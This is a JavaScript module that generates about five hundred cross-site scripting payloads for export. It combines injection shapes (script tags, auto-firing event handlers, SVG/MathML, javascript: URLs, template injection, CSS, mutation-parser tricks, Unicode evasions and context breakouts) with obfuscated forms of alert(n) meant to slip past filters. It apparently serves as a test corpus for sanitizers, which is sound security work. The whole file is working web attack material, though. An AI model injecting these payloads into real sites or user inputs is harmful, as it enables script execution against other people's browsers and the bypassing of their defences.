// Five hundred texts that would run if a page made markup, addresses, style or code of them: the classes of
// OWASP's cheat sheets and cure53's lists, each with every way to write what shall run.

/** What each tries to run; `n` is its number. */
const run = n => `alert(${n})`;

/** The same, for filters that look for the plain one. */
const RUNS = [
  n => run(n),
  n => `alert\`${n}\``,
  n => `top['al'+'ert'](${n})`,
  n => `eval('al\\x65rt(${n})')`,
  n => `Function('alert(${n})')()`,
  n => `&#97;lert(${n})`,
  n => `\\u0061lert(${n})`,
];

/** The shapes; `js` is put where code would stand. */
const SHAPES = [
  // Script elements, well and badly written.
  js => `<script>${js}</script>`, js => `<SCRIPT>${js}</SCRIPT>`, js => `<scr<script>ipt>${js}</scr</script>ipt>`,
  js => `<script/x>${js}</script>`, js => `<script\n>${js}</script\n>`, js => `"><script>${js}</script>`,
  js => `'></script><script>${js}</script>`, js => `<script src="data:text/javascript,${js}"></script>`,
  js => `<script type=module>${js}</script>`, js => `<svg><script>${js}</script></svg>`,
  // Handlers of events, without a click.
  js => `<img src=x onerror=${js}>`, js => `<img src=x onerror="${js}">`, js => `<IMG SRC=x OnErRoR='${js}'>`,
  js => `<img/src=x/onerror=${js}>`, js => `<img src=x:x onerror\t=\t"${js}"//>`, js => `"><img src=x onerror=${js}>`,
  js => `<body onload=${js}>`, js => `<video><source onerror="${js}"></video>`, js => `<audio src=x onerror=${js}>`,
  js => `<input autofocus onfocus=${js}>`, js => `<select autofocus onfocus=${js}>`, js => `<textarea autofocus onfocus=${js}>`,
  js => `<details open ontoggle=${js}>`, js => `<marquee onstart=${js}>`, js => `<object data=x onerror=${js}>`,
  js => `<embed src=x onload=${js}>`, js => `<style onload=${js}></style>`, js => `<link rel=stylesheet href=data:, onload=${js}>`,
  js => `" autofocus onfocus="${js}" x="`, js => `' onmouseover='${js}' x='`, js => '` onclick=`' + js + '`',
  // SVG and MathML.
  js => `<svg onload=${js}>`, js => `<svg/onload="${js}"/>`, js => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  js => `<svg><a xlink:href="javascript:${js}"><rect width=99 height=99 /></a></svg>`,
  js => `<svg><set attributeName=onload to="${js}">`, js => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${js}'/>#x">`,
  js => `<svg><foreignObject><iframe onload=${js}></foreignObject></svg>`,
  js => `<math href="javascript:${js}">CLICK</math>`, js => `<math><maction actiontype="statusline#" xlink:href="javascript:${js}">x`,
  // Addresses.
  js => `javascript:${js}`, js => `JaVaScRiPt:${js}`, js => `java\tscript:${js}`, js => `java\nscript:${js}`, js => `&#106;avascript:${js}`,
  js => `data:text/html,<script>${js}</script>`, js => `vbscript:${js}`, js => `[x](javascript:${js})`, js => `<javascript:${js}>`,
  js => `<a href="javascript:${js}">x</a>`, js => `<iframe src="javascript:${js}">`, js => `<iframe srcdoc="<script>${js}</script>">`,
  js => `<form action="javascript:${js}"><button autofocus>x</form>`, js => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  js => `<base href="javascript:${js}//">`, js => `<object data="javascript:${js}">`,
  // Templates of other tools.
  js => `{{constructor.constructor('${js}')()}}`, js => '${' + js + '}', js => `#{${js}}`, js => `<%= ${js} %>`, js => `{% ${js} %}`,
  js => `{${js}}`, js => `[[${js}]]`, js => `<x v-html="${js}" ng-init="${js}" x-init="${js}">`,
  // Style.
  js => `<style>@import 'javascript:${js}';</style>`, js => `<div style="background:url(javascript:${js})">`,
  js => `<x style="animation-name:a" onanimationstart="${js}"><style>@keyframes a{}</style>`, js => `</style><script>${js}</script>`,
  js => `expression(${js})`,
  // What a second reading makes of it.
  js => `<noscript><p title="</noscript><img src=x onerror=${js}>">`, js => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  js => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`, js => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  js => `&lt;script&gt;${js}&lt;/script&gt;`, js => `&amp;lt;img src=x onerror=${js}&amp;gt;`, js => `%3Cscript%3E${js}%3C/script%3E`,
  js => `\\x3cscript\\x3e${js}\\x3c/script\\x3e`, js => `<!--><img src=x onerror=${js}>-->`, js => `]]><script>${js}</script>`,
  // Signs that are folded, hidden or half.
  js => `＜script＞${js}＜/script＞`, js => `<\u200bscript>${js}</script>`, js => `\u202e<script>${js}</script>`, js => `<scr\u0000ipt>${js}</script>`,
  js => `\ufeff<img src=x onerror=${js}>`, js => `<ſcript>${js}</ſcript>`, js => `‹img src=x onerror=${js}›`,
  // Ends of what it may stand in; what swallows the rest comes last.
  js => `</title><script>${js}</script>`, js => `</textarea><script>${js}</script>`, js => `</bdi></td><script>${js}</script>`,
  js => `--><script>${js}</script>`, js => `*/${js}/*`, js => `';${js};//`, js => `";${js};//`, js => `\\';${js};//`,
  js => `<xmp><img src=x onerror=${js}>`, js => `<!--<script>${js}</script>`, js => `<plaintext><script>${js}</script>`,
];

/** All of them, each different. */
export const PAYLOADS = SHAPES.flatMap((shape, at) => RUNS.map((code, n) => shape(code(at * RUNS.length + n))));
